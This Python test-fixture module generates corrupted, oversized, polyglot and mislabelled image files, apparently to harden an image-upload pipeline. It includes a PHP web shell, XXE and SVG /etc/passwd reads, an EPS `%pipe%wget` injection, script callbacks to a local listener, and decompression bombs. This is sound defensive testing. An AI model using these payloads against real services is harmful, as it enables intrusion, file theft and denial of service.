"""Pictures no camera makes: broken, torn, hostile, lying. Each is a name and a function that gives its bytes.

The seeds are fixed, so a case that fails once fails again. `{prt}` of a listener that must stay silent is put into
every reference to a host.
"""

from __future__ import annotations

import io
import random
import struct
import tempfile
import zlib
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path

import pillow_heif
from PIL import Image

from tests import media_samples as samples

Maker = Callable[[], bytes]
MEGABYTE = 1_000_000
LIMIT = 20 * MEGABYTE  # of bytes, for photos


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width: int, height: int, bits: int, colour: int, pixels: bytes, *more: bytes, interlaced: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, interlaced)
    parts = [b"\x89PNG\r\n\x1a\n", chunk(b"IHDR", header), *more, chunk(b"IDAT", pixels), chunk(b"IEND", b"")]
    return b"".join(parts)


def segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def riff(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2) for name, data in chunks)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + name + body


def saved(picture: Image.Image, form: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, form, **options)
    return buffer.getvalue()


def frames(count: int = 3) -> list[Image.Image]:
    return [samples.quadrants(), *(Image.new("RGB", (400, 300), (9 * n % 255, 0, 0)) for n in range(1, count))]


@cache
def honest(name: str) -> bytes:
    """A good picture in one of the formats, most of them with all the metadata they have room for."""
    moving = {"save_all": True, "append_images": frames()[1:], "duration": 100}
    pictures: dict[str, Maker] = {
        "gray.png": lambda: saved(samples.quadrants().convert("L"), "PNG", exif=samples.exif()),
        "moving.png": lambda: saved(frames()[0], "PNG", **moving),
        "moving.webp": lambda: saved(frames()[0], "WEBP", **moving),
        "moving.avif": lambda: saved(frames()[0], "AVIF", **moving),
        "lossless.webp": lambda: saved(samples.quadrants().convert("RGBA"), "WEBP", lossless=True),
        "two.jpg": lambda: saved(frames()[0], "MPO", save_all=True, append_images=frames(2)[1:], exif=samples.exif()),
    }
    files = {
        "full.jpg": samples.jpeg_full_of_metadata,
        "progressive.jpg": samples.progressive_jpeg,
        "print.jpg": samples.cmyk_jpeg,
        "alpha.png": samples.png,
        "palette.png": samples.palette_png,
        "picture.webp": samples.webp,
        "picture.avif": samples.avif,
        "phone.heic": samples.heic,
        "moving.gif": samples.gif,
    }
    if name in pictures:
        return pictures[name]()
    with tempfile.TemporaryDirectory() as folder:
        return files[name](Path(folder)).read_bytes()


HONEST = ["full.jpg", "progressive.jpg", "print.jpg", "two.jpg", "alpha.png", "palette.png", "gray.png", "moving.png"]
HONEST += ["picture.webp", "lossless.webp", "moving.webp", "picture.avif", "moving.avif", "phone.heic", "moving.gif"]


# Broken by chance -----------------------------------------------------------------------------------------------------


def flipped(name: str, seed: int) -> bytes:
    """Some 3 bits in 1,000 bytes turned, anywhere."""
    data, chance = bytearray(honest(name)), random.Random(f"{name} {seed}")
    for _bit in range(max(3, len(data) * 3 // 1000)):
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
    return bytes(data)


def head_changed(name: str, seed: int) -> bytes:
    """Lengths, counts and offsets stand in the first bytes."""
    data, chance = bytearray(honest(name)), random.Random(f"head {name} {seed}")
    for _byte in range(4):
        data[chance.randrange(12, min(600, len(data)))] = chance.choice([0, 1, 0x7F, 0x80, 0xFF])
    return bytes(data)


def torn(name: str, seed: int) -> bytes:
    data = honest(name)
    return data[: random.Random(f"torn {name} {seed}").randrange(1, len(data))]


def shuffled(name: str, seed: int) -> bytes:
    """Two pieces of the file in each other's place."""
    data, chance = honest(name), random.Random(f"shuffled {name} {seed}")
    a, b, c = sorted(chance.sample(range(16, len(data)), 3))
    return data[:a] + data[b:c] + data[a:b] + data[c:]


# Too much -------------------------------------------------------------------------------------------------------------


def jpeg_of(width: int, height: int, name: str = "full.jpg") -> bytes:
    """A JPEG whose header promises so many pixels."""
    data = bytearray(honest(name))
    at = max(data.find(b"\xff\xc0"), data.find(b"\xff\xc2"))
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def gif_of(width: int, height: int) -> bytes:
    data = bytearray(honest("moving.gif"))
    struct.pack_into("<HH", data, 6, width, height)
    at = data.index(b",\0\0\0\0")
    struct.pack_into("<HH", data, at + 5, width, height)
    return bytes(data)


def webp_canvas(width: int, height: int) -> bytes:
    """An extended WebP with a canvas of this size around a small picture."""
    data = bytearray(honest("picture.webp"))
    at = data.index(b"VP8X") + 12
    data[at : at + 6] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(data)


def webp_lossless(width: int, height: int) -> bytes:
    """A lossless WebP of one colour: no pixel of it takes a bit, so that a small one says all of any size."""
    data = bytearray(saved(Image.new("RGB", (64, 64), "red"), "WEBP", lossless=True))
    at = data.index(b"VP8L") + 9
    struct.pack_into("<I", data, at, (width - 1) | (height - 1) << 14)
    return bytes(data)


def iso_of(name: str, width: int, height: int) -> bytes:
    data = bytearray(honest(name))
    at = data.find(b"ispe")
    while at >= 0:
        struct.pack_into(">II", data, at + 8, width, height)
        at = data.find(b"ispe", at + 4)
    return bytes(data)


def deflated(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(MEGABYTE)) for _part in range(megabytes)), packer.flush()])


def many_frames(form: str, count: int) -> bytes:
    small = [Image.new("L", (8, 8), number % 256) for number in range(count)]
    return saved(small[0], form, save_all=True, append_images=small[1:], duration=10)


def png_with(*chunks: bytes) -> bytes:
    data = honest("gray.png")
    return data[:33] + b"".join(chunks) + data[33:]


def jpeg_with(*segments: bytes) -> bytes:
    data = honest("full.jpg")
    return data[:2] + b"".join(segments) + data[2:]


def exif_loop(kind: str) -> bytes:
    """EXIF folders that lead to themselves, to each other, or have more fields than bytes."""
    fields = [(0x8769, 4, 1, 8), (0x8825, 4, 1, 8), (0x927C, 7, 0xFFFFFFFF, 0), (0x010F, 2, 0x7FFFFFFF, 0xFFFFFFF0)]
    if kind == "crowded":
        block = b"MM\0*\0\0\0\x08\xff\xff" + b"".join(struct.pack(">HHII", 0x02BC, 1, 60000, 8) for _n in range(5000))
    else:
        block = b"MM\0*\0\0\0\x08" + struct.pack(">H", len(fields))
        block += b"".join(struct.pack(">HHII", *field) for field in fields) + struct.pack(">I", 8)
    return jpeg_with(segment(0xE1, b"Exif\0\0" + block[:65000]))


def mpf(count: int) -> bytes:
    """An index that promises so many pictures."""
    block = b"II*\0\x08\0\0\0\x03\0" + struct.pack("<HHI4s", 0xB000, 7, 4, b"0100")
    block += struct.pack("<HHII", 0xB001, 4, 1, count) + struct.pack("<HHII", 0xB002, 7, 16 * count & 0xFFFFFFFF, 8)
    return jpeg_with(segment(0xE2, b"MPF\0" + block + bytes(4)))


def long_xmp() -> bytes:
    """Extended XMP of nearly all the bytes a photo may have."""
    text = (samples.XMP + b"<a:b>" + bytes([32]) * 60_000 + b"</a:b>")[:65_000]
    head = b"http://ns.adobe.com/xmp/extension/\0" + b"0" * 32 + bytes(8)
    return jpeg_with(*(segment(0xE1, head + text) for _part in range(300)))


def scans(count: int) -> bytes:
    data = honest("progressive.jpg")
    start = data.rindex(b"\xff\xda")
    return data[:start] + data[start:-2] * count + b"\xff\xd9"


def nested(depth: int) -> bytes:
    body = b""
    for _level in range(depth):
        body = box(b"meta", bytes(4) + body)
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + body


def with_icc(size: int) -> bytes:
    return png_with(chunk(b"iCCP", b"x\0\0" + deflated(size)))


TOO_MUCH: dict[str, Maker] = {
    "pixels png": lambda: png_of(50_000, 50_000, 8, 2, deflated(1)),
    "pixels png one row": lambda: png_of(2**31 - 1, 1, 8, 2, deflated(1)),
    "pixels png interlaced": lambda: png_of(7700, 7700, 16, 6, deflated(30), interlaced=1),
    "pixels png deep": lambda: png_of(7700, 7700, 16, 6, deflated(475)),
    "pixels png one bit": lambda: png_of(60_000, 60_000, 1, 0, deflated(60)),
    "pixels png nothing": lambda: png_of(0, 0, 8, 2, b""),
    "pixels jpeg": lambda: jpeg_of(65_500, 65_500),
    "pixels jpeg wide": lambda: jpeg_of(65_500, 1500),
    "pixels jpeg progressive": lambda: jpeg_of(65_500, 65_500, "progressive.jpg"),
    "pixels jpeg progressive within": lambda: jpeg_of(12_000, 8_000, "progressive.jpg"),
    "pixels jpeg print": lambda: jpeg_of(20_000, 10_000, "print.jpg"),
    "pixels gif": lambda: gif_of(65_535, 65_535),
    "pixels gif within": lambda: gif_of(7_700, 7_700),
    "pixels webp canvas": lambda: webp_canvas(16_000, 16_000),
    "pixels webp huge canvas": lambda: webp_canvas(2**24, 2**24),
    "pixels webp lossless": lambda: webp_lossless(16_384, 16_384),
    "pixels webp lossless within": lambda: webp_lossless(5_000, 5_000),
    "pixels avif": lambda: iso_of("picture.avif", 60_000, 60_000),
    "pixels avif within": lambda: iso_of("picture.avif", 7_000, 7_000),
    "pixels heic": lambda: iso_of("phone.heic", 60_000, 60_000),
    "pixels heic within": lambda: iso_of("phone.heic", 7_000, 7_000),
    "frames gif": partial(many_frames, "GIF", 3_000),
    "frames png": partial(many_frames, "PNG", 1_500),
    "frames webp": partial(many_frames, "WEBP", 1_500),
    "chunks png": lambda: png_with(chunk(b"teXt", b"") * 1_500_000),
    "chunks png texts": lambda: png_with(chunk(b"tEXt", b"Comment\0x") * 19_000),
    "chunks png profile": partial(with_icc, 200),
    "chunks png packed text": lambda: png_with(chunk(b"zTXt", b"Comment\0\0" + deflated(200))),
    "chunks png packed texts": lambda: png_with(*[chunk(b"zTXt", b"Comment\0\0" + deflated(1))] * 400),
    "chunks png long text": lambda: png_with(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + b"<a:b " * 3_900_000)),
    "chunks jpeg comments": lambda: jpeg_with(segment(0xFE, b"") * 4_900_000),
    "chunks jpeg profiles": lambda: jpeg_with(*[segment(0xE2, b"ICC_PROFILE\0\1\1" + bytes(60_000))] * 255),
    "chunks jpeg exif": lambda: jpeg_with(*[segment(0xE1, b"Exif\0\0" + samples.exif()[6:])] * 20_000),
    "chunks jpeg tables": lambda: jpeg_with(segment(0xDB, b"\0" + bytes(range(1, 65))) * 250_000),
    "chunks gif comments": lambda: honest("moving.gif")[:-1] + b"!\xfe\1x\0" * 3_000_000 + b";",
    "chunks webp": lambda: riff((b"VP8X", bytes(10)), *[(b"JUNK", b"")] * 500_000),
    "chunks webp xmp": lambda: riff((b"VP8X", b"\x04" + bytes(9)), (b"XMP ", samples.XMP * 150_000)),
    "chunks heic boxes": lambda: honest("phone.heic") + box(b"free", b"") * 2_000_000,
    "chunks heic nested": partial(nested, 50_000),
    "exif loop": partial(exif_loop, "loop"),
    "exif crowded": partial(exif_loop, "crowded"),
    "mpf millions": partial(mpf, 2**31 - 1),
    "mpf thousands": partial(mpf, 4_000),
    "xmp long": long_xmp,
    "scans 2000": partial(scans, 2_000),
    "scans 99 large": lambda: scans(80).replace(b"\x04\xb0\x06\x40", b"\x17\x70\x1f\x40", 1),
}


# Two things at once, and not what they say ----------------------------------------------------------------------------

SCRIPT = b"<script>fetch('http://127.0.0.1:{prt}/')</script>"
ZIP = b"PK\3\4\x14\0\0\0\0\0" + bytes(16) + b"\5\0\0\0a.txthello" + b"PK\5\6" + bytes(18)
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://127.0.0.1:{prt}/)>>>>endobj\n%%EOF\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">' + (
    b'<image xlink:href="http://127.0.0.1:{prt}/"/><image href="file:///etc/passwd"/>' + SCRIPT + b"</svg>"
)

BOTH: dict[str, Maker] = {
    "jpeg and zip": lambda: honest("full.jpg") + ZIP,
    "jpeg and html": lambda: jpeg_with(segment(0xFE, b"<html>" + SCRIPT)),
    "jpeg and js": lambda: jpeg_with(segment(0xE0, b"/*"), segment(0xFE, b"*/=alert(1)/*")),
    "jpeg and pdf": lambda: honest("full.jpg") + PDF,
    "jpeg and php": lambda: jpeg_with(segment(0xFE, b"<?php system($_GET[0]); ?>")),
    "gif and js": lambda: b"GIF89a=1;" + honest("moving.gif")[9:] + b"*/alert(1)",
    "gif and html": lambda: honest("moving.gif") + SCRIPT,
    "png and svg": lambda: honest("alpha.png") + SVG,
    "png and html": lambda: png_with(chunk(b"tEXt", b"Comment\0" + SCRIPT)),
    "png and zip": lambda: png_with(chunk(b"zzZz", ZIP)),
    "webp and html": lambda: honest("picture.webp") + SCRIPT,
    "heic and html": lambda: honest("phone.heic") + box(b"free", SCRIPT),
    "avif and zip": lambda: honest("picture.avif") + ZIP,
    "xmp with hosts": lambda: jpeg_with(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY a SYSTEM "
                                        b"'http://127.0.0.1:{prt}/'>]>" + samples.XMP)),
    "png xmp with hosts": lambda: png_with(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<!DOCTYPE x SYSTEM "
                                           b"'http://127.0.0.1:{prt}/x.dtd'><x>&a;</x>")),
    "liar jpeg then png": lambda: b"\xff\xd8\xff\xe0" + honest("alpha.png"),
    "liar png then jpeg": lambda: b"\x89PNG\r\n\x1a\n" + honest("full.jpg"),
    "liar gif then webp": lambda: b"GIF89a" + honest("picture.webp"),
    "liar heic brand on avif": lambda: honest("picture.avif").replace(b"ftypavif", b"ftypheic", 1),
    "liar avif brand on heic": lambda: honest("phone.heic").replace(b"ftypheic", b"ftypavif", 1),
    "liar heic brand on a film": lambda: box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"moov", bytes(200)),
    "liar webp head on a wav": lambda: b"RIFF\x24\0\0\0WEBPfmt " + bytes(100),
    "liar webp length": lambda: b"RIFF\xff\xff\xff\xff" + honest("picture.webp")[8:],
    "liar avif brand on nothing": lambda: box(b"ftyp", b"avif\0\0\0\0mif1avif"),
    "liar jpeg head only": lambda: b"\xff\xd8\xff\xdb" + bytes(500),
    "liar png without end": lambda: honest("gray.png")[:-12],
    "liar png wrong sum": lambda: honest("gray.png")[:29] + bytes(4) + honest("gray.png")[33:],
}  # fmt: skip


# Not on the list ------------------------------------------------------------------------------------------------------


def drawn(form: str, mode: str = "RGB", **options: object) -> bytes:
    return saved(samples.quadrants(64, 48).convert(mode), form, **options)


EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n(%pipe%wget http://127.0.0.1:{prt}/) run\n"
OTHERS: dict[str, Maker] = {
    "svg": lambda: SVG,
    "svg with a mark": lambda: b"\xef\xbb\xbf<?xml version='1.0'?>" + SVG,
    "svg packed": lambda: zlib.compress(SVG, 9, 31),
    "eps": lambda: EPS,
    "eps with a preview": lambda: struct.pack("<IIII", 0xC6D3D0C5, 32, len(EPS), 0) + bytes(16) + EPS,
    "pdf": lambda: PDF,
    "html": lambda: b"<!DOCTYPE html>" + SCRIPT,
    "mvg": lambda: b"push graphic-context\nimage over 0,0 0,0 'http://127.0.0.1:{prt}/'\npop graphic-context\n",
    "msl": lambda: b"<?xml version='1.0'?><image><read filename='http://127.0.0.1:{prt}/'/></image>",
    "xml": lambda: b"<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://127.0.0.1:{prt}/'><a/>",
    "playlist": lambda: b"#EXTM3U\n#EXTINF:2,\nhttp://127.0.0.1:{prt}/a.ts\n",
    "tiff": partial(drawn, "TIFF"),
    "tiff big-endian": lambda: b"MM\0*\0\0\0\x08\0\0",
    "tiff big": lambda: b"II+\0\x08\0\0\0" + bytes(64),
    "dng": lambda: drawn("TIFF").replace(b"II*\0", b"II*\0", 1) + b"DNG",
    "cr2": lambda: b"II*\0\x10\0\0\0CR\2\0" + bytes(64),
    "raf": lambda: b"FUJIFILMCCD-RAW 0201" + bytes(64),
    "psd": lambda: b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 48, 64, 8, 3) + bytes(64),
    "bmp": partial(drawn, "BMP"),
    "dib": partial(drawn, "DIB"),
    "ico": partial(drawn, "ICO"),
    "cur": lambda: b"\0\0\2\0" + drawn("ICO")[4:],
    "icns": partial(drawn, "ICNS"),
    "wmf": lambda: b"\xd7\xcd\xc6\x9a" + bytes(64),
    "emf": lambda: b"\1\0\0\0" + bytes(36) + b" EMF" + bytes(64),
    "xbm": partial(drawn, "XBM", "1"),
    "xpm": lambda: b'/* XPM */\nstatic char *a[] = {"1 1 1 1", "a c #000000", "a"};',
    "fits": lambda: b"SIMPLE  =                    T".ljust(2880),
    "pcx": partial(drawn, "PCX"),
    "ppm": partial(drawn, "PPM"),
    "pgm": partial(drawn, "PPM", "L"),
    "tga": partial(drawn, "TGA"),
    "dds": partial(drawn, "DDS"),
    "sgi": partial(drawn, "SGI"),
    "jpeg 2000": partial(drawn, "JPEG2000"),
    "jpeg 2000 bare": lambda: b"\xff\x4f\xff\x51" + bytes(64),
    "jpeg xl": lambda: b"\xff\x0a" + bytes(64),
    "jpeg xl in a box": lambda: box(b"JXL ", b"\r\n\x87\n") + box(b"ftyp", b"jxl \0\0\0\0jxl "),
    "jpeg xr": lambda: b"II\xbc\1" + bytes(64),
    "exr": lambda: b"v/1\1" + bytes(64),
    "hdr": lambda: b"#?RADIANCE\n" + bytes(64),
    "dicom": lambda: bytes(128) + b"DICM" + bytes(64),
    "qoi": lambda: b"qoif" + struct.pack(">IIBB", 9, 9, 3, 0) + bytes(16),
    "swf": lambda: b"FWS\6" + bytes(64),
    "zip": lambda: ZIP,
    "a program": lambda: b"\x7fELF\2\1\1" + bytes(64),
    "zeros": lambda: bytes(4096),
    "a line feed": lambda: b"\n",
}


def _broken() -> dict[str, Maker]:
    ways: list[tuple[str, Callable[[str, int], bytes], int]] = [
        ("flipped", flipped, 3), ("head", head_changed, 2), ("torn", torn, 2), ("shuffled", shuffled, 1),
    ]  # fmt: skip
    return {
        f"{way} {name} {seed}": partial(change, name, seed)
        for way, change, seeds in ways
        for name in HONEST
        for seed in range(seeds)
    }


BROKEN = _broken()
HOSTILE: dict[str, Maker] = BROKEN | TOO_MUCH | BOTH  # what reaches a decoder, or looks as if it should
ALL = HOSTILE | OTHERS


def written(name: str, folder: Path, port: int) -> Path:
    """The case as a file; the name of an upload means nothing."""
    path = folder / f"{name.replace(' ', '-')}.jpg"
    data = ALL[name]()
    if b"{prt}" in data:
        data = data.replace(b"{prt}", b"%05d" % port)
        data = summed(data) if data.startswith(b"\x89PNG\r") else data
    path.write_bytes(data)
    return path


def summed(data: bytes) -> bytes:
    """A PNG with the right check sums, so that what was written into its parts is read."""
    parts, at = [data[:8]], 8
    while data[at + 4 : at + 8].isalpha():
        size = int.from_bytes(data[at : at + 4], "big")
        parts.append(chunk(data[at + 4 : at + 8], data[at + 8 : at + 8 + size]))
        at += 12 + size
    return b"".join([*parts, data[at:]])


pillow_heif.register_heif_opener()  # for the makers of HEIC
